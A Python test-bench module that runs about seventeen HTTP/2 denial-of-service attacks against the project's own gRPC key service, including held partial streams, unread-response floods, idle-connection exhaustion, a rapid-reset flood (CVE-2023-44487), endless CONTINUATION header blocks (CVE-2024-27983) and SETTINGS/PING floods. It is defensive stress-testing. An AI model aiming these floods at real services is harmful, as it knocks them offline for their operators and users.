"""Attacks of a hostile client on the port: `python -m tests.bench.attacks NAME ADDRESS KEY`.

Each attack prints "ready" when everything that the service is to hold is sent, or when its flood runs. It
continues until its standard input ends. KEY belongs to a tenant and has the scopes keys:read and keys:verify;
most attacks do not use it. A refused attacker tries again: a lost connection is opened again.
"""

import asyncio
import os
import struct
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

import uvloop
from grpc_reflection.v1alpha import reflection_pb2

from authsvc.v1 import key_service_pb2 as pb
from tests.http2 import (
    CONTINUATION,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    block,
    call_headers,
    frame,
    message,
)

VERIFY = "/authsvc.v1.KeyService/VerifyKey"
LIST = "/authsvc.v1.KeyService/ListKeys"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_MIB = 1024 * 1024
_STREAMS = 1000
_CONNECTIONS = 10

Attack = Callable[[str, str], Awaitable[None]]


def ready(told: str = "") -> None:
    """Report that the attack has begun."""
    print("ready", told, flush=True)


async def _connections(address: str, window: int = 65_535) -> list[Connection]:
    """Open as many connections as are needed for this many streams, at most ten."""
    first = await Connection.open(address, window=window)
    count = min(_CONNECTIONS, -(-_STREAMS // min(first.max_streams, _STREAMS)))
    return [first, *[await Connection.open(address, window=window) for _ in range(count - 1)]]


async def _hold(connections: list[Connection], begin: Callable[[Connection], Awaitable[None]]) -> None:
    """Begin streams on all connections, as many as they accept, and hold those that remain."""
    each = _STREAMS // len(connections)
    with suppress(TimeoutError):
        async with asyncio.timeout(20):
            await asyncio.gather(*(begin(one) for one in connections for _ in range(each)))
    ready(f"{sum(one.open_streams for one in connections)} streams of {len(connections)} connections open")
    await asyncio.Event().wait()


def _partial(authorized: bool) -> Attack:
    async def attack(address: str, key: str) -> None:
        headers = block(call_headers(VERIFY, f"Bearer {key}" if authorized else ""))
        body = struct.pack(">BI", 0, _MIB) + bytes(_MIB - 1)

        async def begin(one: Connection) -> None:
            await one.send(one.call(headers, end=False), body)

        await _hold(await _connections(address), begin)

    return attack


async def silent(address: str, key: str) -> None:
    """Streams with a caller and without any message."""
    headers = block(call_headers(VERIFY, f"Bearer {key}"))

    async def begin(one: Connection) -> None:
        one.call(headers, end=False)

    await _hold(await _connections(address), begin)


async def half_closed(address: str, key: str) -> None:
    """Calls that end without a message."""
    headers = block(call_headers(VERIFY, f"Bearer {key}"))

    async def begin(one: Connection) -> None:
        await one.status(one.call(headers, end=True))

    await _hold(await _connections(address), begin)


async def unread_lists(address: str, key: str) -> None:
    """Forty pages of large keys, on one connection whose receive window is closed."""
    headers = block(call_headers(LIST, f"Bearer {key}"))
    request = message(pb.ListKeysRequest(owner_id="acme", page_size=1000).SerializeToString())
    one = await Connection.open(address, window=0)
    for _ in range(40):
        one.call(headers, request)
    await asyncio.sleep(8)
    ready(f"{one.open_streams} of 40 answers unread")
    await asyncio.Event().wait()


async def unread_verdicts(address: str, key: str) -> None:
    """A very large number of small responses that are never read."""
    headers = block(call_headers(VERIFY, f"Bearer {key}"))
    request = message(pb.VerifyKeyRequest(key_string=key).SerializeToString())

    async def begin(one: Connection) -> None:
        one.call(headers, request)

    await _hold(await _connections(address, window=0), begin)


def _reflection_request() -> bytes:
    asked = reflection_pb2.ServerReflectionRequest(file_containing_symbol="authsvc.v1.KeyService")
    return message(asked.SerializeToString())


async def unread_reflection(address: str, key: str) -> None:
    """Streams of reflection without a credential, whose responses are not read."""
    headers, asked = block(call_headers(REFLECTION)), _reflection_request()

    async def begin(one: Connection) -> None:
        await one.send(one.call(headers, end=False), asked * 20)

    await _hold(await _connections(address, window=0), begin)


async def _flood(address: str, turn: Callable[[Connection], Awaitable[None]]) -> None:
    """Repeat something on one connection, and on a new one when that is lost."""
    told = False
    while True:
        with suppress(OSError):
            one = await Connection.open(address)
            while not one.closed.is_set():
                if not told:
                    ready()
                    told = True
                await turn(one)
            await one.close()
        await asyncio.sleep(0.01)


def _calls(headers: bytes, data: bytes | None) -> Attack:
    """Keep as many calls in flight as a connection accepts, at most 100."""

    async def attack(address: str, key: str) -> None:
        async def turn(one: Connection) -> None:
            while one.open_streams < min(100, one.max_streams):
                one.call(headers, data)
            await one.drain()
            await one.changed()

        await _flood(address, turn)

    return attack


async def reflection(address: str, key: str) -> None:
    """Request files, sixteen at a time."""
    headers, asked = block(call_headers(REFLECTION)), _reflection_request()

    async def turn(one: Connection) -> None:
        while one.open_streams < 16:
            one.call(headers, asked)
        await one.changed()

    await _flood(address, turn)


async def resets(address: str, key: str) -> None:
    """Begin calls and reset each immediately (CVE-2023-44487)."""
    headers = block(call_headers(VERIFY))

    async def turn(one: Connection) -> None:
        for _ in range(50):
            stream = one.call(headers, end=False)
            one.write(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        await one.drain()
        await asyncio.sleep(0)

    await _flood(address, turn)


async def continuation(address: str, key: str) -> None:
    """Send a header block without an end (CVE-2024-27983 and similar ones)."""
    piece = block([("x-filler", "y" * 100)]) * 100

    async def turn(one: Connection) -> None:
        if one.begun == 0:
            one.call(block(call_headers(VERIFY)), headers_end=False)
        for _ in range(10):
            one.write(frame(CONTINUATION, 0, 1, piece))
        await one.drain()
        await asyncio.sleep(0)

    await _flood(address, turn)


async def control_frames(address: str, key: str) -> None:
    """Settings and pings, each of which must be acknowledged."""
    frames = (frame(SETTINGS, 0, 0) + frame(PING, 0, 0, bytes(8))) * 100

    async def turn(one: Connection) -> None:
        one.write(frames)
        await one.drain()
        await asyncio.sleep(0)

    await _flood(address, turn)


async def idle_connections(address: str, key: str) -> None:
    """Connections that speak HTTP/2 and send no request."""
    held = []
    for _ in range(1500):
        with suppress(OSError):
            held.append(await Connection.open(address))
    ready(f"{sum(not one.closed.is_set() for one in held)} of 1500 connections open")
    await asyncio.Event().wait()


_MANY_HEADERS = [(f"x-{number}", "v") for number in range(5000)]

ATTACKS: dict[str, Attack] = {
    "partial messages, no credential": _partial(False),
    "partial messages, a tenant": _partial(True),
    "calls without a message, not ended": silent,
    "calls without a message, ended": half_closed,
    "answers unread, 40 large pages": unread_lists,
    "answers unread, 1000 verdicts": unread_verdicts,
    "reflection, answers unread": unread_reflection,
    "idle connections, 1500": idle_connections,
    "reflection, 16 at a time": reflection,
    "calls without a credential": _calls(block(call_headers(VERIFY)), message(b"")),
    "calls without a frame of data": _calls(block(call_headers(VERIFY)), None),
    "calls of no RPC": _calls(block(call_headers("/no.Service/Call")), message(b"")),
    "60 KB of headers": _calls(
        block(call_headers(VERIFY, more=[("x-filler", "y" * 20_000)] * 3)), message(b"")
    ),
    "4 KB of small headers": _calls(block(call_headers(VERIFY, more=_MANY_HEADERS[:100])), message(b"")),
    "resets": resets,
    "endless header blocks": continuation,
    "settings and pings": control_frames,
}


async def _until_told(work: Awaitable[None]) -> None:
    loop = asyncio.get_running_loop()
    told = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(told), sys.stdin)
    attack = asyncio.ensure_future(work)
    await asyncio.wait((attack, asyncio.ensure_future(told.read())), return_when=asyncio.FIRST_COMPLETED)
    if attack.done():
        attack.result()


if __name__ == "__main__":
    os.nice(5)
    _, name, address, key = sys.argv
    uvloop.run(_until_told(ATTACKS[name](address, key)))
